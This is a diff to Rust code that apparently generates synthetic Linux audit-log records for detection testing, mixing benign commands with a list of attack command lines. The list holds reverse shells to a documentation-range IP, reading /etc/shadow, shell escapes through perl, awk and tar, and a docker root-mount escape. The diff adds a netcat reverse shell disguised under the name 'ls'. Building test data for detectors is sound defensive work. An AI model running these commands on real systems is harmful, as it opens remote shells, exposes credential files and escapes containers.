@@ -83,7 +83,7 @@ const WORK: &[&[&str]] = &[
     &["dpkg-query", "-W", "{w}"],
 ];
 
-/// Attacks as the processes that they start.
+/// Attacks as the processes that they start. `name@file` is a program that goes by the name of another one.
 const ATTACKS: &[&[&[&str]]] = &[
     &[&["bash", "-c", "bash -i >& /dev/tcp/203.0.113.{n}/4444 0>&1"]],
     &[&["cat", "/etc/shadow"]],
@@ -108,6 +108,7 @@ const ATTACKS: &[&[&[&str]]] = &[
     &[&["perl", "-e", "use Socket; exec '/bin/sh';"]],
     &[&["awk", "BEGIN {system(\"/bin/sh\")}"]],
     &[&["tar", "cf", "/dev/null", "x", "--checkpoint=1", "--checkpoint-action=exec=/bin/sh"]],
+    &[&["ls@/usr/bin/nc", "-e", "/bin/sh", "203.0.113.{n}", "9001"]],
     &[&["docker", "run", "-v", "/:/mnt", "--rm", "-it", "alpine", "chroot", "/mnt", "sh"]],
 ];
 
@@ -153,15 +154,21 @@ impl Day {
         let milliseconds = serial * 86_400_000 / self.execs.max(1);
         let (second, rest) = (START + milliseconds / 1000, milliseconds % 1000);
         let host = session % 50;
+        let first = words.first().map_or("", String::as_str);
+        let (name, file) = match first.split_once('@') {
+            Some((name, file)) => (name, file.to_owned()),
+            None => (first, file_of(first)),
+        };
         let event = format!("msg=audit({second}.{rest:03}:{serial}):");
         let _ = writeln!(
             text,
             "node=host{host} type=SYSCALL {event} arch=c000003e syscall=59 success=yes exit=0 items=2 ppid={parent} \
-             pid={pid} auid={user} uid={user} gid={user} euid={user} tty=pts0 ses={session} comm=\"x\" exe=\"/usr/bin/x\" \
+             pid={pid} auid={user} uid={user} gid={user} euid={user} tty=pts0 ses={session} comm=\"x\" exe=\"{file}\" \
              key=\"exec\""
         );
         let _ = write!(text, "node=host{host} type=EXECVE {event} argc={}", words.len());
-        for (index, word) in words.iter().enumerate() {
+        let rest = words.iter().skip(1).map(String::as_str);
+        for (index, word) in std::iter::once(name).chain(rest).enumerate() {
             let plain = |c: char| c.is_ascii_graphic() && c != '"';
             if word.chars().all(plain) {
                 let _ = write!(text, " a{index}=\"{word}\"");
@@ -207,6 +214,17 @@ impl Day {
             written += 4;
         }
         written
+    }
+}
+
+/// The file of a program, as a Debian has it.
+fn file_of(name: &str) -> String {
+    match name {
+        "sh" | "/bin/sh" => "/usr/bin/dash".to_owned(),
+        "awk" => "/usr/bin/mawk".to_owned(),
+        "python3" => "/usr/bin/python3.11".to_owned(),
+        _ if name.starts_with('/') => name.to_owned(),
+        _ => format!("/usr/bin/{name}"),
     }
 }
 
